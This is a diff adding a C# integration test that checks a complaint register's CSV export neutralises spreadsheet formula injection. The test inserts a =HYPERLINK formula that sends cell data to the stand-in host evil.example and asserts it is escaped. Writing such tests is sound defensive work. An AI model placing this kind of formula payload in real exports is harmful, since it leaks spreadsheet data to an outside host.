@@ -284,6 +284,18 @@ public abstract class RegisterTests(AppFixture fixture) : IntegrationTest(fixtur
     }
 
     [Fact]
+    public async Task ExportCsv_WithTexts_NeutralisesATextASpreadsheetWouldRunAsAFormula()
+    {
+        var session = await DemoAsync("enhetschef.bestallarenheten");
+        (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")", "2025-06-10"))).Location.ShouldNotBeNull();
+
+        var csv = await session.Client.GetStringAsync($"/organisation/{Bestallarenheten}/arenden/export?ar=2025&format=csv&texter=true");
+
+        csv.ShouldContain("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klick\"\")\"");
+        csv.ShouldNotContain(";\"=HYPERLINK(");
+    }
+
+    [Fact]
     public async Task ComplaintHandledAndClosed_CountsInItsTertialsRows()
     {
         var session = await DemoAsync("enhetschef.bestallarenheten");
